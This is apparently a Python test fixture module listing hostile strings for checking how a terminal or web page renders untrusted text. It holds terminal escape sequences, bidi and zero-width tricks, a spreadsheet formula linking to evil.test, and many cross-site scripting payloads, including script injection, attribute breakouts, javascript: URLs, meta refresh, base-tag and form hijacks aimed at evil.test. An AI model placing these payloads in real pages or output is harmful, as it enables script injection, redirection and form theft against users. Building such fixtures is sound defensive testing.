"""Strings that a page or a server may choose to say, for tests of everything that is written down or shown."""

from __future__ import annotations

HOSTILE = {
    "clears the screen": "flood\x1b[2J\x1b[Hflood",
    "sets the title of the window": "flood\x1b]0;evil\x07flood",
    "a link of the terminal": "flood\x1b]8;;http://evil.test\x1b\\flood\x1b]8;;\x1b\\",
    "C0": "flood" + "".join(map(chr, [*range(1, 9), *range(14, 32), 127])) + "flood",
    "C1": "flood\x9b2J\x9d0;evil\x9c\x85\x90flood",
    "overrides": "flood\u202egpj.exe\u202c \u202a\u202b\u202d flood",
    "isolates": "flood\u2066 \u2067 \u2068 \u2069 \u061c \u200e \u200f flood",
    "zero width": "flo\u200bod\u2060 \ufeff \u180e flood",
    "tags and no characters": "flood\U000e0041\U000e007f \ufffe \uffff flood",
    "other line ends": "flood\u2028one\u2029two\x0bthree\x0cfour\r\nfive flood",
    "markup": "flood <b>&amp;</b> [bold]red[/] ]]> \"quoted\" 'single' flood",
    "a formula": '=HYPERLINK("http://evil.test","flood")',
    "very long": "flood " * 5000,
}

MARKUP = {
    "ends the title": "flood</title></textarea></style></script><script>alert(1)</script>",
    "ends an attribute": "flood\"'><img src=//evil.test/a onerror=alert(1)>",
    "adds an attribute": "flood' onmouseover='alert(1)' x=\" autofocus onfocus=alert(1) tabindex=1 y=\"",
    "a template": "flood {{7*7}} {% raw %} ${alert(1)} <%= 1 %> #{1}",
    "an image of its own": "flood<svg/onload=alert(1)><use href=//evil.test/a.svg#x></svg>",
    "an address that is a script": "javascript:alert('flood')",
    "the same with a tab": "jav\tascript:alert('flood')",
    "a document as an address": "data:text/html,<script>alert('flood')</script>",
    "a frame": "flood<iframe srcdoc='<script>parent.alert(1)</script>' src=//evil.test></iframe>",
    "a refresh": "flood<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "a style sheet": "flood<link rel=stylesheet href=//evil.test/a.css><link rel=preload as=image href=//evil.test/b>",
    "an import": "flood<style>@import url(//evil.test/a.css);*{background:url(//evil.test/b)}</style>",
    "another base": "flood<base href=//evil.test/ target=_top>",
    "a form": "flood<form action=//evil.test/ id=live><input name=csrf autofocus><button>Go on</button></form>",
    "a comment": "flood--><!--><img src=//evil.test/a>--!><script>alert(1)</script>",
    "escaped twice": "flood &lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "ends a script": 'flood\u2028"]};alert(1);//</script><script>alert(1)</script>\\u003cscript\\u003e',
    "an event of a stream": 'flood\n\nevent: parts\ndata: {"live-next": "<img src=x onerror=alert(1)>"}\n\n',
    "opens by itself": "flood<details open ontoggle=alert(1)>flood</details><dialog open>flood</dialog>",
    "changes when it is parsed again": (
        "flood<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>"
    ),
    "hidden in what is not shown": "flood<noscript><p title='</noscript><img src=x onerror=alert(1)>'><template>",
    "CDATA": "flood<![CDATA[<script>alert(1)</script>]]><?xml-stylesheet href='//evil.test/a.css'?>",
    "names of our own elements": "flood<p id=says>owned</p><p id=live-next>owned</p><p id=queue>owned</p>",
    "one long word": "flood" + "W" * 3000,
    "towers of accents": "flood" + "\u0301\u0336\u0489" * 300,
}
"""Titles, texts and addresses that attack a browser."""
